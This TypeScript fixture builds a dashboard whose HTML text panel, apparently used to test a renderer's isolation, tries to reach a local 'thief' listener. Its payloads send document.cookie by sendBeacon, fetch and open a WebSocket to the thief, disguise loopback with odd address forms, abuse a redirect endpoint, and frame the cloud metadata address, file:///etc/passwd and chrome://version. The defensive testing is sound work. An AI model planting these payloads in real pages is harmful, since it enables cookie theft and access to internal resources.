// A page that tries to reach what it has no business with. `thief` is the origin of the second listener.
import { dashboard, dataPanel, textPanel, type Dashboard } from './model.js';

export interface Origins {
  /** The thief as an address, e.g. http://127.0.0.1:4000 */
  thief: string;
  /** The thief under a name, e.g. http://localhost:4000 */
  thiefByName: string;
}

function attempts({ thief, thiefByName }: Origins): string {
  const host = new URL(thief).host;
  return `
<p>窃取样本</p>
<img src="${thief}/pixel.png?by=img" width="8" height="8">
<img src="${thiefByName}/pixel.png?by=name" width="8" height="8">
<img src="http://[::ffff:127.0.0.1]:${new URL(thief).port}/pixel.png?by=mapped" width="8" height="8">
<img src="http://2130706433:${new URL(thief).port}/pixel.png?by=odd-number" width="8" height="8">
<iframe src="http://169.254.169.254/latest/meta-data/" width="40" height="20"></iframe>
<iframe src="file:///etc/passwd" width="40" height="20"></iframe>
<iframe src="chrome://version/" width="40" height="20"></iframe>
<iframe src="api/__redirect?to=${encodeURIComponent(`${thief}/page?by=redirect`)}" width="40" height="20"></iframe>
<img src="api/__redirect?to=${encodeURIComponent(`${thief}/pixel.png?by=img-redirect`)}" width="8" height="8">
<script>
fetch('${thief}/fetch?by=fetch', {headers: {'x-tried': 'yes'}}).catch(function () {});
fetch('api/__redirect?to=' + encodeURIComponent('${thief}/fetch?by=fetch-redirect')).catch(function () {});
try { new WebSocket('ws://${host}/socket?by=websocket'); } catch (e) {}
try { navigator.sendBeacon('${thief}/beacon?by=beacon', document.cookie); } catch (e) {}
</script>`;
}

export function steal(origins: Origins): Dashboard {
  return dashboard('steal', '窃取样本', ['steal'], [
    dataPanel('steal', 'timeseries', 1, '正常面板', { x: 0, y: 0, w: 12, h: 8 }),
    textPanel(2, '第三方内容', { x: 12, y: 0, w: 12, h: 8 }, attempts(origins), 'html'),
  ]);
}
